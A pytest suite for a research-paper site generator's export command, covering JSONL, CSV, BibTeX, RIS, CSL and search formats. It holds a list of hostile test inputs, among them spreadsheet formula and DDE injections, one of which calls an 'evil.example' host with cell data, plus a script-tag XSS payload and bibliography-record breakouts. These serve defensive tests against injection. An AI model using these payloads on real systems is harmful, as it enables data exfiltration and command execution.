"""export: everything a site knows, in the formats of other programs, and back again."""

import csv
import io
import json
import re
import subprocess
import sys
from collections.abc import Iterable, Iterator, Mapping
from datetime import date
from pathlib import Path
from typing import Any

import bibtexparser
import pytest
import rispy
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from generator.cli import FORMATS as OFFERED
from generator.content import load_library
from generator.export import FORMATS, open_export
from generator.library.pages import format_paper
from generator.model import Link, Paper
from generator.publish.citations import bulk_citations, citation_key, csl, stream_csl
from generator.publish.records import paper_record, stream_csv, stream_jsonl
from generator.publish.search import search_documents
from generator.sources.records import FIELDS
from generator.storage.tree import write_stream
from generator.text.markdown import render_markdown, render_plain
from generator.text.plain import clean_line, clean_text, markdown_from_plain, plain_source
from tests.command import REPOSITORY, broadsheet, tree

DAY = date(2025, 11, 26)
SITE_YML = "title: Papers\nbase_url: https://papers.example/all/\n"
PULLED = (
    "title: Again\nsources:\n  - {name: export, type: json, path: content/sources/papers.jsonl}\n"
)
EPOCH = {"SOURCE_DATE_EPOCH": "1764288000"}
ARXIV = "https://arxiv.org/abs/"
FULL = Paper(
    id="2401.10020",
    title=r"Scaling $\alpha_1$ at 5\% of the cost: \"quoted\", and; parted",
    abstract="We *show* that $a_1 < b$, for $5 a day.\n\nA [link](https://a.example/) and `code`.",
    date=date(2024, 1, 18),
    added=DAY,
    authors=("Ada Lovelace", "van Beethoven, Ludwig", "Martin King Jr.", "The Qwen Team", "Plato"),
    organization="Toy Lab",
    topics=("trains", "learning"),
    links=(
        Link(kind="abstract", url=f"{ARXIV}2401.10020"),
        Link(kind="pdf", url="https://arxiv.org/pdf/2401.10020"),
        Link(kind="code", url="https://github.com/toy/trains"),
        Link(kind="doi", url="https://doi.org/10.1000/toy.1"),
    ),
    upvotes=0,
    comments=7,
    venue="Journal of Toys 7",
    keywords=("trains", "braking, late"),
)
BARE = Paper(id="a-title-2025", title="A Title", added=DAY)
HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "'=1+1",
    'Say "no", twice; =1+1;=2+2',
    "} , @misc{evil, title = {x}",
    "TY  - JOUR\r\nER  - \nTI  - other",
    "</script><script>alert(1)</script>",
    "🦊 \u05e9\u05dc\u05d5\u05dd 中文 Émile",
    "\uff1d2+7",
    "a\x00b\x1bc\ufffe",
)


def make_site(folder: Path, papers: Iterable[Paper], settings: str = SITE_YML) -> Path:
    """A site of these papers with two topics."""
    for slug in ("learning", "trains"):
        place = folder / f"content/topics/{slug}.md"
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(f"---\ntitle: {slug.title()}\n---\n")
    (folder / "content/site.yml").write_text(settings)
    for paper in papers:
        place = folder / f"content/papers/{paper.date.year if paper.date else 'undated'}"
        place.mkdir(parents=True, exist_ok=True)
        (place / f"{paper.id}.md").write_text(format_paper(paper))
    return folder


@pytest.fixture
def site(tmp_path: Path) -> Path:
    hidden = replace(BARE, id="hidden", title="Hidden", hidden=True)
    draft = replace(BARE, id="draft", title="Draft", draft=True)
    old = replace(BARE, id="old", title="Old", added=date(2025, 1, 1), topics=("learning",))
    return make_site(tmp_path / "site", [FULL, BARE, old, hidden, draft])


def export(site: Path, *arguments: str) -> str:
    """What the command gives."""
    done = subprocess.run(
        [sys.executable, "-m", "generator", "export", *arguments],
        cwd=site,
        env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(REPOSITORY)},
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert (done.returncode, done.stderr.decode()) == (0, "")
    return done.stdout.decode()


def read_lines(text: str) -> list[dict[str, Any]]:
    assert not text or text.endswith("\n")
    return [json.loads(line) for line in text.split("\n")[:-1]]


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def read_ids(kind: str, text: str) -> list[str]:
    """The ids of the papers, or their citation keys, as programs of others read them."""
    if kind == "bibtex":
        library = bibtexparser.parse_string(text)
        assert not library.failed_blocks
        return [entry.key for entry in library.entries]
    if kind == "ris":
        return [record["id"] for record in rispy.loads(text)]
    if kind == "csv":
        return [row["id"] for row in read_csv(text)]
    records = json.loads(text) if kind == "csl" else read_lines(text)
    return [record["id"] for record in records]


def test_the_formats_of_the_command_line_are_those_there_are() -> None:
    assert tuple(FORMATS) == OFFERED


@pytest.mark.parametrize("kind", OFFERED)
def test_a_site_without_papers_is_an_answer_too(kind: str, tmp_path: Path) -> None:
    answer = export(make_site(tmp_path, []), kind)
    assert read_ids(kind, answer) == []
    assert answer == {"csv": ",".join(FIELDS) + "\r\n", "csl": "[]\n"}.get(kind, "")


@pytest.mark.parametrize("kind", OFFERED)
def test_every_paper_is_there_newest_first_but_no_draft_and_nothing_hidden(
    kind: str, site: Path
) -> None:
    papers = [FULL, BARE, replace(BARE, id="old")]
    keyed = kind in ("bibtex", "ris", "csl")
    ids = [citation_key(paper) if keyed else paper.id for paper in papers]
    if kind == "search":
        ids = [document["id"] for document in search_documents(load_library(site))]
        assert sorted(ids) == sorted(paper.id for paper in papers)
    assert read_ids(kind, export(site, kind)) == ids


@pytest.mark.parametrize("kind", OFFERED)
def test_a_topic_and_a_day_choose_papers(kind: str, site: Path) -> None:
    keyed = kind in ("bibtex", "ris", "csl")
    full = citation_key(FULL) if keyed else FULL.id
    assert sorted(read_ids(kind, export(site, kind, "--topic", "learning"))) == [full, "old"]
    later = export(site, kind, "--topic", "learning", "--since", str(DAY))
    assert read_ids(kind, later) == [full]
    assert read_ids(kind, export(site, kind, "--since", "2025-11-27")) == []


def test_search_gives_what_is_indexed_and_a_choice_changes_no_line(site: Path) -> None:
    whole = export(site, "search")
    assert read_lines(whole) == list(search_documents(load_library(site)))
    part = export(site, "search", "--topic", "trains")
    assert part in whole
    assert part.count("\n") == 1


def test_a_record_has_the_keys_that_the_json_source_reads() -> None:
    assert tuple(paper_record(FULL)) == tuple(paper_record(BARE)) == FIELDS


def test_what_is_not_known_is_no_key_and_nothing_is_not_unknown() -> None:
    (bare, full) = [json.loads(line) for line in stream_jsonl([BARE, FULL])]
    assert bare == {"id": "a-title-2025", "title": "A Title"}
    assert (full["upvotes"], full["comments"]) == (0, 7)


def test_an_abstract_loses_its_marks_and_keeps_its_formulas(site: Path) -> None:
    record = read_lines(export(site, "jsonl"))[0]
    assert record["title"] == FULL.title
    assert record["abstract"] == "We show that $a_1 < b$, for $5 a day.\n\nA link and code."


def told(site: Path) -> dict[str, dict[str, Any]]:
    """Of every paper what a record carries, its abstract as a page shows it."""
    return {
        paper.id: paper_record(paper) | {"abstract": render_markdown(paper.abstract)}
        for paper in load_library(site)
    }


def exported_and_pulled(site: Path, again: Path) -> Mapping[str, dict[str, Any]]:
    """The papers of a site after an export, by way of a pull into an empty one."""
    make_site(again, [], PULLED)
    target = again / "content/sources/papers.jsonl"
    target.parent.mkdir()
    for place in (site / "content/topics").glob("*.md"):
        (again / "content/topics" / place.name).write_text(place.read_text())
    done = broadsheet("export", "jsonl", "--output", str(target), site=site)
    assert done.returncode == 0, done.stderr
    pulled = broadsheet("pull", "--offline", site=again, environment=EPOCH)
    assert (pulled.returncode, pulled.stderr.count("left out")) == (0, 0), pulled.stderr
    return told(again)


def test_the_papers_of_this_site_come_back_from_their_export(tmp_path: Path) -> None:
    assert exported_and_pulled(REPOSITORY, tmp_path) == told(REPOSITORY)


def hostile_papers() -> Iterator[Paper]:
    for place, text in enumerate(HOSTILE):
        shown = markdown_from_plain(text)
        name = f"hostile-{place}-2025"
        yield Paper(id=name, title=text, abstract=shown, authors=(text,), added=DAY)


def moved(kind: str, id_: str, url: str, **other: Any) -> Paper:
    """A paper of its own with one link."""
    link = Link(kind=kind, url=url)
    return Paper(id=id_, title=f"On {id_}", added=DAY, links=(link,), **other)


RETURNING = (
    FULL,
    BARE,
    moved("abstract", "hep-th-9901001", f"{ARXIV}hep-th/9901001"),
    moved("abstract", "attention-is-all-you-need-2017", f"{ARXIV}1706.03762"),
    moved("abstract", "a-title-2025-2", f"{ARXIV}2501.00001", date=date(2025, 1, 1)),
    moved("abstract", "on-shape", "https://b.example/shape"),
    moved("doi", "learning-to-stack-bricks-2024", "https://doi.org/10.1000/toy.2"),
    moved("doi", "10.1000-toy.3", "https://doi.org/10.1000/toy.3"),
    replace(moved("doi", "on-time", "https://doi.org/10.1000/toy.4"), title="On Time", date=DAY),
    Paper(id="our-17", title="By hand", added=DAY, topics=("learning",)),
    Paper(
        id="escaped-2025",
        title="# A title with <b>, & and \\emph{TeX}",
        added=DAY,
        abstract="\\# No heading\n\n1\\. No list, 2 \\* 3, \\$5 or \\\\(\n\n\\## No notes",
    ),
    *hostile_papers(),
)


def without_arxiv_pdf(records: Mapping[str, dict[str, Any]]) -> dict[str, dict[str, Any]]:
    """Records less the address of the PDF that follows from an arXiv id."""
    derived = "https://arxiv.org/pdf/"
    return {
        id_: record | {"pdf": "" if record["pdf"].startswith(derived) else record["pdf"]}
        for id_, record in records.items()
    }


def test_papers_come_back_from_their_export_under_their_names(tmp_path: Path) -> None:
    site = make_site(tmp_path / "site", RETURNING)
    before, after = told(site), exported_and_pulled(site, tmp_path / "again")
    assert set(before) == {paper.id for paper in RETURNING}
    marked = FULL.id
    shown = before[marked].pop("abstract"), after[marked].pop("abstract")
    assert "<em>show</em>" in shown[0]
    assert shown[1] == render_plain(plain_source(FULL.abstract))
    assert without_arxiv_pdf(after) == without_arxiv_pdf(before)


def test_an_export_of_what_an_export_gave_is_the_same(tmp_path: Path) -> None:
    site = make_site(tmp_path / "site", [FULL, *RETURNING[1:2], *RETURNING[6:]])
    exported_and_pulled(site, tmp_path / "again")
    lines = [sorted(export(each, "jsonl").splitlines()) for each in (site, tmp_path / "again")]
    assert lines[0] == lines[1]


MARKS = (
    "$", "$$", r"\(", r"\)", r"\[", r"\]", "\\", "_", "*", "`", "[", "](", "<", "&amp;", "#", "- ",
    "1. ", "|---|", "\n\n", " ", "5", "a b", "x_1", "https://a.example/_x",
)  # fmt: skip


@given(st.lists(st.sampled_from(MARKS), max_size=14).map("".join))
def test_an_abstract_is_shown_again_as_it_was(text: str) -> None:
    assert render_plain(plain_source(markdown_from_plain(text))) == render_plain(clean_text(text))


def test_csv_is_read_back_cell_by_cell(site: Path) -> None:
    text = export(site, "csv")
    assert text.count("\r\n") == 4
    (full, bare, _) = read_csv(text)
    assert tuple(full) == FIELDS
    assert full["title"] == FULL.title
    assert full["authors"] == "; ".join(FULL.authors)
    assert full["keywords"] == "trains; braking, late"
    assert full["abstract"].split("\n\n")[1] == "A link and code."
    assert (full["upvotes"], full["date"]) == ("0", "2024-01-18")
    assert {key: value for key, value in bare.items() if value} == {
        "id": "a-title-2025",
        "title": "A Title",
    }


def unguarded(text: str) -> str:
    """Cells without the apostrophes that the export put there."""
    return re.sub(r"(?<![^;\t\r\n])'(?='*[=+\-@＝＋－＠])", "", text)


@pytest.mark.parametrize("text", [*HOSTILE, "\t=1", "\r=1", "a\n\n=1+1", "a;=1", "a -1", "'", ""])
def test_no_cell_is_a_formula_and_no_text_is_lost(text: str) -> None:
    paper = replace(BARE, title=text, organization=text, keywords=(text,), venue=text)
    rows = b"".join(stream_csv([paper], FIELDS)).decode()
    (row,) = read_csv(rows)
    assert unguarded(row["title"]) == text
    for line in [*row.values(), *rows.splitlines()]:
        for cell in [line, *re.split("[;\t]", line)]:
            assert not cell.startswith(tuple("=+-@＝＋－＠"))


@pytest.mark.parametrize("kind", OFFERED)
def test_hostile_text_stays_in_its_place(kind: str, tmp_path: Path) -> None:
    papers = list(hostile_papers())
    answer = export(make_site(tmp_path, papers), kind)
    assert len(set(read_ids(kind, answer))) == len(papers)
    titles = [clean_line(text) for text in HOSTILE]
    if kind in ("jsonl", "csl"):
        records = read_lines(answer) if kind == "jsonl" else json.loads(answer)
        assert sorted(record["title"] for record in records) == sorted(titles)
    if kind == "csv":
        assert sorted(unguarded(row["title"]) for row in read_csv(answer)) == sorted(titles)


def test_bibliographies_are_those_of_the_site(site: Path) -> None:
    papers = list(load_library(site))
    bib, records = bulk_citations("x", papers, "https://papers.example/all/")
    assert export(site, "bibtex") == bib.content.decode()
    assert export(site, "ris") == records.content.decode()
    address = "https://papers.example/all/papers/a-title-2025/"
    assert address in export(site, "bibtex")
    assert json.loads(export(site, "csl"))[1]["URL"] == address


CSL_TEXTS = {
    "id", "type", "title", "container-title", "publisher", "number", "DOI", "URL", "abstract",
    "keyword",
}  # fmt: skip
CSL_TYPES = {"article", "article-journal", "paper-conference"}


def check_csl(item: dict[str, Any]) -> None:
    """The rules of csl-data.json 1.0.2 for the fields we use: no other field, and no empty one."""
    assert item.keys() <= CSL_TEXTS | {"author", "issued"}
    assert all(isinstance(item[name], str) and item[name] for name in CSL_TEXTS & item.keys())
    assert item["type"] in CSL_TYPES
    assert item["id"]
    for name in item.get("author", ()):
        assert set(name) == {"literal"} or {"family", "given"} <= set(name)
        assert set(name) <= {"literal", "family", "given", "suffix"}
        assert all(name.values())
    if "issued" in item:
        ((year, month, day),) = item["issued"]["date-parts"]
        assert date(year, month, day)


def test_csl_has_the_fields_of_its_schema() -> None:
    item = csl(FULL, "https://papers.example/papers/2401.10020/")
    check_csl(item)
    assert item["id"] == citation_key(FULL) == "lovelace-2401.10020"
    assert item["type"] == "article-journal"
    assert item["container-title"] == "Journal of Toys 7"
    assert item["author"] == [
        {"family": "Lovelace", "given": "Ada"},
        {"family": "van Beethoven", "given": "Ludwig"},
        {"family": "King", "given": "Martin", "suffix": "Jr."},
        {"literal": "The Qwen Team"},
        {"literal": "Plato"},
    ]
    assert item["issued"] == {"date-parts": [[2024, 1, 18]]}
    assert (item["DOI"], item["URL"]) == ("10.1000/toy.1", f"{ARXIV}2401.10020")
    assert item["title"].startswith("Scaling α_1 at 5% of the cost")
    assert "number" not in item


@pytest.mark.parametrize(
    ("venue", "kind", "container"),
    [
        ("NeurIPS 2025", "paper-conference", "NeurIPS 2025"),
        ("Journal of Toys", "article-journal", "Journal of Toys"),
        ("arXiv", "article", None),
        ("", "article", None),
    ],
)
def test_csl_says_what_kind_of_publication_it_is(
    venue: str, kind: str, container: str | None
) -> None:
    item = csl(replace(FULL, venue=venue), "https://papers.example/")
    check_csl(item)
    assert (item["type"], item.get("container-title")) == (kind, container)
    number = ("arXiv", "arXiv:2401.10020") if kind == "article" else (None, None)
    assert (item.get("publisher"), item.get("number")) == number


@given(st.lists(st.text(max_size=30), max_size=3), st.text(max_size=40), st.text(max_size=40))
def test_csl_keeps_its_rules_whatever_the_text(names: list[str], title: str, abstract: str) -> None:
    authors = tuple(name for name in names if plain_source(name))
    paper = replace(FULL, title=f"T {title}", authors=authors, abstract=abstract, venue=title)
    (item,) = json.loads(b"".join(stream_csl([paper], "https://papers.example/")))
    check_csl(item)


def test_an_answer_may_be_closed_before_its_end(tmp_path: Path) -> None:
    site = make_site(tmp_path, (replace(BARE, id=f"paper-{n}") for n in range(3_000)))
    done = subprocess.run(
        f"{sys.executable} -m generator export jsonl | head -n 1",
        shell=True,
        cwd=site,
        env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(REPOSITORY)},
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    assert len(read_lines(done.stdout)) == 1
    assert done.stderr == ""


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full on this system")
def test_a_full_disk_is_told_as_a_problem(site: Path) -> None:
    with Path("/dev/full").open("wb") as full:
        done = subprocess.run(
            [sys.executable, "-m", "generator", "export", "csv"],
            cwd=site,
            env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(REPOSITORY)},
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            check=False,
        )
    assert done.returncode == 1
    assert done.stderr == "stdout: cannot be written: no space left on device\n"


@pytest.mark.parametrize("kind", OFFERED)
def test_a_paper_is_written_before_the_next_is_looked_at(kind: str, site: Path) -> None:
    """Five thousand papers pass as chunks of one paper each."""
    library = load_library(site)
    seen: list[str] = []

    class Counted(dict[str, Paper]):
        def values(self) -> Any:
            return self._values()

        def _values(self) -> Iterator[Paper]:
            for number in range(5_000):
                seen.append(f"paper-{number}")
                yield replace(FULL, id=seen[-1])

    chunks = FORMATS[kind](replace(library, papers=Counted()), "https://papers.example/")
    largest = max(map(len, chunks))
    assert len(seen) == 5_000
    assert largest < 4_000


def test_five_thousand_papers_are_five_thousand_lines(tmp_path: Path) -> None:
    abstract = "Text of an abstract that is no longer than it must be. " * 20
    papers = (replace(FULL, id=f"paper-{n}", abstract=abstract) for n in range(5_000))
    opened = open_export(make_site(tmp_path, papers), "jsonl")
    first = next(opened.chunks)
    assert json.loads(first)["id"] == "paper-0"
    assert opened.papers == 5_000
    assert sum(chunk.count(b"\n") for chunk in opened.chunks) == 4_999


def test_a_file_is_replaced_and_nothing_is_on_stdout(site: Path) -> None:
    target = site / "papers.csv"
    target.write_text("old")
    done = broadsheet("export", "csv", "--output", "papers.csv", site=site)
    assert (done.returncode, done.stdout) == (0, "")
    assert done.stderr == "papers.csv: 3 papers\n"
    assert target.read_bytes().decode() == export(site, "csv")
    assert sorted(place.name for place in site.iterdir()) == ["content", "papers.csv"]
    quiet = broadsheet("export", "csv", "-q", "--output", "papers.csv", site=site)
    assert (quiet.stdout, quiet.stderr) == ("", "")


def test_a_link_stays_a_link_to_the_new_file(site: Path) -> None:
    (site / "there").mkdir()
    (site / "papers.ris").symlink_to("there/papers.ris")
    done = broadsheet("export", "ris", "--output", "papers.ris", site=site)
    assert done.returncode == 0, done.stderr
    assert (site / "papers.ris").is_symlink()
    assert (site / "there/papers.ris").read_text().startswith("TY  - ")


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (
            ["--topic", "lerning"],
            "--topic: there is no topic 'lerning'\n  hint: did you mean 'learning'?\n",
        ),
        (
            ["--topic", "zzz"],
            "--topic: there is no topic 'zzz'\n  hint: known are learning, trains\n",
        ),
        (
            ["--output", "nowhere/a.csv"],
            (
                "nowhere/a.csv: there is no folder 'nowhere'\n"
                "  hint: make the folder first, or name a file elsewhere\n"
                "nowhere/a.csv was not written.\n"
            ),
        ),
        (
            ["--output", "."],
            ".: is a folder, not a file\n  hint: name a file in it\n. was not written.\n",
        ),
        (
            ["--output", "/dev/null"],
            (
                "/dev/null: is a device, not a file\n"
                "  hint: leave out --output to write to stdout\n/dev/null was not written.\n"
            ),
        ),
        (
            ["--output", "content/sources.csv"],
            (
                "content/sources.csv: is in content/, which a build reads\n"
                "  hint: choose another folder with --output\n"
                "content/sources.csv was not written.\n"
            ),
        ),
    ],
)
def test_what_cannot_be_is_told_with_a_hint_and_changes_nothing(
    arguments: list[str], message: str, site: Path
) -> None:
    before = tree(site)
    done = broadsheet("export", "csv", *arguments, site=site)
    assert (done.returncode, done.stdout, done.stderr) == (1, "", message)
    assert tree(site) == before


def test_a_writing_that_breaks_off_leaves_the_old_file(tmp_path: Path) -> None:
    def breaking() -> Iterator[bytes]:
        yield b"half of "
        raise KeyboardInterrupt

    (tmp_path / "a.bib").write_text("old")
    with pytest.raises(KeyboardInterrupt):
        write_stream(tmp_path / "a.bib", breaking())
    assert tree(tmp_path) == {"a.bib": b"old"}


def test_a_broken_page_is_told_before_anything_is_written(site: Path) -> None:
    (site / "content/papers/undated/bad.md").write_text("---\ntitle: Bad\nadded: soon\n---\n")
    (site / "a.csv").write_text("old")
    done = broadsheet("export", "csv", "--output", "a.csv", site=site)
    assert done.returncode == 1
    assert done.stderr.startswith("content/papers/undated/bad.md:3: 'added' is not a date")
    assert done.stderr.endswith("a.csv was not written.\n")
    assert (site / "a.csv").read_text() == "old"


def test_a_format_that_is_none_is_a_wrong_use(site: Path) -> None:
    done = broadsheet("export", "xml", site=site)
    assert (done.returncode, done.stdout) == (2, "")
    assert "'xml' is not one of 'jsonl', 'csv', 'bibtex', 'ris', 'csl', 'search'" in done.stderr


def test_a_folder_that_is_no_site_is_told_so(tmp_path: Path) -> None:
    done = broadsheet("export", "jsonl", site=tmp_path)
    assert (done.returncode, done.stdout) == (1, "")
    assert "this folder is not a site" in done.stderr
